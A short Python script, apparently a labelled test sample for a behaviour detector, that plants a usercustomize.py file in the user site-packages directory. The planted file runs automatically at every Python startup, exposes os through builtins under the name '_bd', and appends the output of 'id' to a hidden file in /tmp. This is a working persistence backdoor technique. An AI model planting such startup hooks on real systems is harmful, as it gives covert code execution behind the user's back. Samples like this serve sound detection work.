# expect: files; creates the user site directory and plants usercustomize.py there
import os
import site

user_site = site.getusersitepackages()
os.makedirs(user_site, exist_ok=True)
path = os.path.join(user_site, "usercustomize.py")
with open(path, "w") as fh:
    fh.write("import builtins, os\nbuiltins.__dict__['_bd'] = os\nos.system('id >> /tmp/.seen')\n")
